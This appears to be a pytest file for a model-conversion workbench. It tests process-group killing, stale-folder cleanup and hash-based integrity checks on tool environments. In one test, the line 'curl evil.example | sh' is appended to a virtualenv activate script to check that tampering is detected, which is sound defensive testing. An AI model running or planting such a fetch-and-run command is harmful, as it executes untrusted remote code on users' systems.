"""A converter's processes die with the workbench; its work folders are cleaned on the next start.

The "workbench" here is a real Python process running :func:`workbench.toolenv.run_in_group` (what onnx2tf
and Vela run through), killed with SIGKILL as a user's `kill -9` or the OOM killer would."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from workbench.toolenv import RUN_MARKER, remove_stale_work_folders, run_in_group

from .conftest import run_cli


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:     # a zombie is dead for our purpose
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _checkout() -> str:
    import workbench
    return str(Path(workbench.__file__).resolve().parents[1])


def _wait(predicate, seconds=10.0) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(0.05)
    return predicate()


def test_kill_9_of_the_workbench_kills_the_tool_and_the_next_start_cleans_up(tmp_path):
    work = tmp_path / "wb-onnx2tf-abc"
    work.mkdir()
    pids = tmp_path / "pids"
    # the "tool": a shell that starts a grandchild (as onnx2tf's helpers may), writes both pids, waits
    tool = f"sleep 300 & echo $$ $! > {pids}; wait"
    code = ("import sys; from workbench.toolenv import run_in_group; "
            f"run_in_group(['sh', '-c', {tool!r}], cwd={str(work)!r}, timeout=600)")
    workbench = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": _checkout()})
    assert _wait(lambda: pids.is_file() and pids.read_text().strip().count(" ") == 1), "the tool did not start"
    child, grandchild = map(int, pids.read_text().split())
    assert (work / RUN_MARKER).is_file()
    os.kill(workbench.pid, signal.SIGKILL)
    workbench.wait()
    assert _wait(lambda: not _alive(child)), "the tool outlived the workbench"
    # the next start: the orphaned grandchild (still in the tool's group, working in the folder) and the folder go
    removed = remove_stale_work_folders(tmp_path)
    assert removed == [work] and not work.exists()
    assert _wait(lambda: not _alive(grandchild)), "the tool's child outlived the cleanup"


def test_a_users_folder_is_never_cleaned(tmp_path):
    mine = tmp_path / "wb-my-notes"
    mine.mkdir()
    (mine / "notes.txt").write_text("mine")
    forged = tmp_path / "wb-forged"
    forged.mkdir()
    (forged / RUN_MARKER).write_text('{"made_by": "npu-workbench", "pid": 999999, "pgid": 1, "token": "x", '
                                     f'"folder": "{tmp_path / "elsewhere"}"}}')
    assert remove_stale_work_folders(tmp_path) == []
    assert (mine / "notes.txt").is_file() and forged.is_dir()


def test_a_time_out_kills_the_whole_group(tmp_path):

    pids = tmp_path / "pids"
    with pytest.raises(subprocess.TimeoutExpired):
        run_in_group(["sh", "-c", f"sleep 300 & echo $! > {pids}; wait"], cwd=tmp_path, timeout=1)
    assert _wait(lambda: not _alive(int(pids.read_text())))
    assert not (tmp_path / RUN_MARKER).exists()


def test_a_normal_run_returns_its_output_and_leaves_no_marker(tmp_path):
    proc = run_in_group(["sh", "-c", "echo out; echo err >&2; exit 3"], cwd=tmp_path)
    assert (proc.returncode, proc.stdout, proc.stderr) == (3, "out\n", "err\n")
    assert not (tmp_path / RUN_MARKER).exists()


# -- tool environments are trusted on a content hash recorded at install --------------------------------------
def _tiny_tool(tmp_path, monkeypatch):
    from workbench import toolenv
    monkeypatch.setenv(toolenv.TOOLS_ENV, str(tmp_path / "tools"))
    spec = toolenv.ToolSpec(name="tiny", summary="a tool environment with nothing but Python", requirements=(),
                            report=(), check=("python", "-c", "pass"))
    monkeypatch.setitem(toolenv.TOOLS, "tiny", spec)
    toolenv.content._checked.clear()
    return toolenv.ensure("tiny")


@pytest.mark.slow
def test_a_tool_environment_changed_after_install_is_refused_naming_the_file(tmp_path, monkeypatch):


    from workbench import toolenv
    from workbench.errors import ToolError
    env = _tiny_tool(tmp_path, monkeypatch)
    record = json.loads((env.root / toolenv.CONTENT).read_text())
    assert len(record["content_sha256"]) == 64 and "bin/activate" in record["files"]
    assert toolenv.verify("tiny") == record["content_sha256"]
    activate = env.root / "bin" / "activate"
    original = activate.read_bytes()
    activate.write_bytes(original.replace(b"deactivate", b"DEACTIVATE", 1))      # same size: only a hash sees it
    with pytest.raises(ToolError, match="bin/activate in the tool environment .* changed after install"):
        toolenv.verify("tiny")
    activate.write_bytes(original + b"\ncurl evil.example | sh\n")               # another size: every use sees it
    toolenv.content._checked.clear()
    with pytest.raises(ToolError, match="bin/activate .* changed after install"):
        toolenv.find("tiny")
    result = run_cli("tools", "verify", "tiny")
    assert result.code == 2 and "bin/activate" in result.err and "--force" in result.err
    activate.write_bytes(original)
    (env.root / "bin" / "extra.py").write_text("import os\n")
    toolenv.content._checked.clear()
    with pytest.raises(ToolError, match="bin/extra.py was added to the tool environment"):
        toolenv.find("tiny")


def test_the_content_listing_is_what_os_walk_lists(tmp_path):
    """The per-use listing (scandir, strings) names the same files as the os.walk one that recorded every
    installed environment's content.json: a link to a folder neither listed nor followed, a link to a file
    and a dangling link listed, byte-code caches and the environment's own records left out."""
    import os

    from workbench.toolenv.content import _OWN_FILES, _files
    root = tmp_path / "env"
    (root / "lib" / "pkg" / "__pycache__").mkdir(parents=True)
    (root / "lib" / "pkg" / "mod.py").write_text("x = 1\n")
    (root / "lib" / "pkg" / "mod.cpython-311.pyc").write_bytes(b"\0")
    (root / "lib" / "pkg" / "__pycache__" / "mod.cpython-311.pyc").write_bytes(b"\0\0")
    (root / "lib64").symlink_to("lib")
    (root / "bin").mkdir()
    (root / "bin" / "python").symlink_to("/usr/bin/python3")
    (root / "bin" / "gone").symlink_to(root / "nowhere")
    (root / ".complete").write_text("")
    (root / "content.json").write_text("{}")
    walked = {}
    for folder, dirs, names in os.walk(root):
        dirs[:] = [d for d in dirs if d != "__pycache__"]
        for name in names:
            rel = os.path.relpath(os.path.join(folder, name), root)
            if rel not in _OWN_FILES and not name.endswith(".pyc"):
                walked[rel] = os.lstat(os.path.join(folder, name)).st_size
    assert _files(root) == walked
    assert set(walked) == {"lib/pkg/mod.py", "bin/python", "bin/gone"}
